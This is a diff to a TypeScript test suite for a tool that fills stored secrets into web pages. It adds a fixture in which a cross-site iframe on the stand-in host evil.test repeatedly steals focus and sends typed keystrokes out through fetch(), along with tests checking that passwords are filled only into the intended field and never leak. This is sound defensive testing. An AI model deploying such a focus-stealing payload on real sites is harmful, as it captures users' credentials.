@@ -17,6 +17,9 @@ const thief = (frame: string) =>
 const thiefFrame = `<input id="stolen" oninput="fetch('/stolen?' + value)">
   <script>onmessage = () => stolen.focus()</script>`;
 
+/** A page whose frame takes the focus again and again. */
+const grabber = `<input id="stolen" oninput="fetch('/stolen?' + value)"><script>setInterval(() => stolen.focus(), 1)</script>`;
+
 const stolen: string[] = [];
 
 const demo = await startSite();
@@ -35,6 +38,12 @@ const { site: pages, browser } = await openPages(
       response.writeHead(200, { "content-type": "text/html" }).end(thief(frame));
     },
     "/thief-frame": thiefFrame,
+    "/grabbed": ({ headers }, response) => {
+      const fields = `<input id="field"><input id="number" type="number"><p id="edited" contenteditable>old</p>`;
+      const frame = `http://evil.test:${headers.host?.split(":")[1]}/grabber`;
+      response.writeHead(200, { "content-type": "text/html" }).end(`${fields}<iframe src="${frame}"></iframe>`);
+    },
+    "/grabber": grabber,
     "/stolen": ({ url = "" }, response) => {
       stolen.push(url);
       response.end();
@@ -136,6 +145,21 @@ describe("a stored secret", () => {
     expect(await heldAfter([open(at("bank")), type("#field")])).toEqual([password]);
     // One key at most, by a frame that takes the focus between the check and the key: docs/security.md.
     expect(stolen.filter((url) => url.length > "/stolen?x".length)).toEqual([]);
+  });
+
+  test.each([
+    ["#field", password],
+    ["#number", "8150734426"],
+    ["#edited", password],
+  ])("is filled into %s alone, although a frame of another site keeps taking the focus", async (selector, value) => {
+    stolen.length = 0;
+    for (let time = 0; time < 6; time++) {
+      const steps: WrittenStep[] = [open(at("bank", "/grabbed")), { ...fill(), selector } as WrittenStep];
+      await using played = await playSteps(browser, steps, { stored: stored(value) });
+      const field = played.session.page.locator(selector);
+      expect(await (selector === "#edited" ? field.textContent() : field.inputValue())).toBe(value);
+    }
+    expect(stolen).toEqual([]);
   });
 
   test("is not typed where nothing has the focus", async () => {
